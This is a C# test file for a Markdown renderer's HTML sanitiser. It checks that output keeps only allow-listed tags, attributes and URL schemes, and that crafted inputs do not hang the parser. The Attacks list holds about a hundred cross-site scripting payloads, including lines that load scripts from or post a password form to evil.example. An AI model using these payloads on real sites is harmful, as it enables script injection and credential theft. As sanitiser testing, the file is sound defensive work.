using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Halcytone.Studio.Content;
using Halcytone.Studio.Content.Markup;

namespace Halcytone.Studio.Tests.Content;

public sealed class MarkdownRendererTests
{
    private readonly MarkdownRenderer renderer = new();

    public static TheoryData<string> Attacks =>
    [
        // elements that run
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://evil.example/x.js></script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", "<math href='javascript:alert(1)'>x</math>",
        "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>", "<embed src='javascript:alert(1)'>",
        "<applet code=x></applet>", "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<form action='https://evil.example'><input name=password><button>Sign in</button></form>", "<isindex action=javascript:alert(1) type=image>", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>", "<html onclick=alert(1)>", "<frameset onload=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "<portal src='javascript:alert(1)'></portal>", "<dialog open onclose=alert(1)>x</dialog>",
        // attributes that run
        "<p onclick=alert(1)>x</p>", "<img src=x onerror=alert(1)>", "<img src=x:x onerror=alert(1)>", "<img/src='x'/onerror='alert(1)'>", "<a onmouseover=alert(1) href=#>x</a>", "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='position:fixed;inset:0'>x</p>",
        "<b id=body class=x data-x=y tabindex=1 accesskey=x contenteditable>x</b>", "<a href=# target=_self ping=https://evil.example download>x</a>", "<img srcset='https://evil.example/x 1x' src='/media/x'>", "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
        "<img src=\"x`y\" alt=\"``onerror=alert(1)\">", "<a href='#' x='\"><img src=x onerror=alert(1)>'>x</a>", "<p title='\"><script>alert(1)</script>'>x</p>", "<img alt='--><script>alert(1)</script>' src=/media/a/b.png>",
        // addresses that run, in HTML
        "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>",
        "<a href='\u0001javascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='blob:https://evil.example/x'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='//evil.example'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='view-source:javascript:alert(1)'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
        "<img src='javascript:alert(1)'>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img src='http://evil.example/x.png'>", "<img src='//evil.example/x.png'>", "<img src='/media/../sign-out'>", "<img src='/api/v2/contents'>",
        // addresses that run, in Markdown
        "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](<javascript:alert(1)>)", "[x](data:text/html,x)", "[x](vbscript:x)", "<javascript:alert(1)>", "![x](javascript:alert(1))", "![x](data:image/svg+xml,x)",
        "[x]: javascript:alert(1)\n\n[x]", "![x\"onerror=\"alert(1)](/media/a/b.png)", "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")", "`<script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```", "```js\" onload=\"alert(1)\nx\n```",
        // parsers that disagree
        "<!--><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "</p><script>alert(1)</script><p>", "<a href='https://example.com'><a href='javascript:alert(1)'>x</a></a>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<table><td><script>alert(1)</script><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">", "<p><svg><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg>", "<img src=x onerror=alert(1)//", "<img \u0000src=x onerror=alert(1)>",
        "<a href=\"https://example.com\u2028javascript:alert(1)\">x</a>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    ];

    [Theory, MemberData(nameof(Attacks))]
    public void Nothing_that_runs_or_leads_astray_is_let_through(string markdown)
    {
        foreach (var text in new[] { markdown, $"Before {markdown} after", $"> {markdown}", $"- {markdown}" })
        {
            var html = renderer.Render(text).ToString();
            var body = new HtmlParser().ParseDocument($"<!doctype html><body>{html}").Body!;
            Assert.All(body.QuerySelectorAll("*"), element => Assert.Null(Complaint(element)));
            Assert.Equal(html, HtmlSanitiser.Clean(html).ToString()); // cleaning what is clean changes nothing
        }
    }

    private static readonly string[] Elements =
        "a abbr b blockquote br caption cite code dd del dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s small strong sub sup table tbody td tfoot th thead tr u ul".Split(' ');

    private static readonly string[] Attributes = ["href", "title", "rel", "src", "alt", "width", "height", "colspan", "rowspan", "scope", "start", "value", "class"];

    private static string? Complaint(IElement element)
    {
        if (!Elements.Contains(element.LocalName)) return $"<{element.LocalName}> was let through";
        foreach (var attribute in element.Attributes)
        {
            if (!Attributes.Contains(attribute.LocalName)) return $"{attribute.LocalName} was let through";
            if (attribute.LocalName == "class" && !attribute.Value.StartsWith("language-", StringComparison.Ordinal)) return "a class was let through";
            if (attribute.LocalName is "href" or "src" && attribute.Value.Contains(':', StringComparison.Ordinal)
                && !new[] { "https:", "http:", "mailto:", "tel:" }.Any(scheme => attribute.Value.StartsWith(scheme, StringComparison.OrdinalIgnoreCase))) return $"{attribute.Value} was let through";
            if (attribute.LocalName == "src" && !attribute.Value.StartsWith("https://", StringComparison.Ordinal) && !attribute.Value.StartsWith("/media/", StringComparison.Ordinal)) return $"{attribute.Value} was let through";
            if (attribute.Value.StartsWith("//", StringComparison.Ordinal) || attribute.Value.Contains('\\', StringComparison.Ordinal) && attribute.LocalName is "href" or "src" && attribute.Value.Contains('\\', StringComparison.Ordinal)) return $"{attribute.Value} was let through";
        }
        return null;
    }

    [Theory]
    [InlineData("# The longer exhale", "<h1>The longer exhale</h1>")]
    [InlineData("**bold** and *calm* and ~~gone~~", "<p><strong>bold</strong> and <em>calm</em> and <del>gone</del></p>")]
    [InlineData("[notes](https://example.com/a?b=1&c=2)", "<p><a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">notes</a></p>")]
    [InlineData("[mail](mailto:hello@example.com)", "<p><a href=\"mailto:hello@example.com\" rel=\"noopener noreferrer\">mail</a></p>")]
    [InlineData("![A wave](/media/1/wave.png)", "<p><img src=\"/media/1/wave.png\" alt=\"A wave\"></p>")]
    [InlineData("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>")]
    [InlineData("3. three", "<ol start=\"3\">\n<li>three</li>\n</ol>")]
    [InlineData("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>")]
    [InlineData("```csharp\nvar calm = true;\n```", "<pre><code class=\"language-csharp\">var calm = true;\n</code></pre>")]
    [InlineData("https://example.com", "<p><a href=\"https://example.com\" rel=\"noopener noreferrer\">https://example.com</a></p>")]
    [InlineData("Café, 呼吸, 🌬", "<p>Café, 呼吸, 🌬</p>")]
    public void What_people_write_reads_as_they_mean_it(string markdown, string html) => Assert.Equal(html, renderer.Render(markdown).ToString().Trim());

    [Fact]
    public void A_table_keeps_its_cells()
        => Assert.Contains("<th>Pace</th>", renderer.Render("| Pace | Minutes |\n|---|---|\n| 6 | 4 |").ToString(), StringComparison.Ordinal);

    public static TheoryData<string, string> Bombs => new()
    {
        { "quotes", new string('>', 20_000) + " x" },
        { "lists", string.Concat(Enumerable.Range(0, 400).Select(depth => new string(' ', depth * 2) + "- x\n")) },
        { "brackets", new string('[', 60_000) },
        { "images", string.Concat(Enumerable.Repeat("![", 30_000)) },
        { "links", string.Concat(Enumerable.Repeat("[a](", 20_000)) },
        { "stars", string.Concat(Enumerable.Repeat("*a **a ", 20_000)) },
        { "backticks", string.Concat(Enumerable.Range(1, 600).Select(count => new string('`', count) + " ")) },
        { "elements", string.Concat(Enumerable.Repeat("<div>", 50_000)) },
        { "bold elements", string.Concat(Enumerable.Repeat("<b>", 20_000)) },
        { "entities", string.Concat(Enumerable.Repeat("&amp;", 50_000)) },
        { "tables", string.Concat(Enumerable.Repeat("|", 50_000)) },
        { "large", new string('a', ContentText.LargestBody + 10) },
        { "underscores", string.Concat(Enumerable.Repeat("_a_", 50_000)) },
        { "angle brackets", new string('<', 100_000) },
    };

    [Theory, MemberData(nameof(Bombs))]
    public void A_text_made_to_break_the_reader_ends_soon(string name, string markdown)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        Assert.NotEmpty(name);
        Assert.NotNull(renderer.Render(markdown).ToString());
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), $"{name} took {clock.Elapsed}");
    }

    [Fact]
    public void Only_a_hundred_elements_stand_within_each_other()
    {
        var html = HtmlSanitiser.Clean(string.Concat(Enumerable.Repeat("<blockquote>", 5000)) + "deep").ToString();
        Assert.Contains("deep", html, StringComparison.Ordinal);
        Assert.True(html.Split("<blockquote>").Length - 1 <= HtmlSanitiser.Deepest);
    }
}
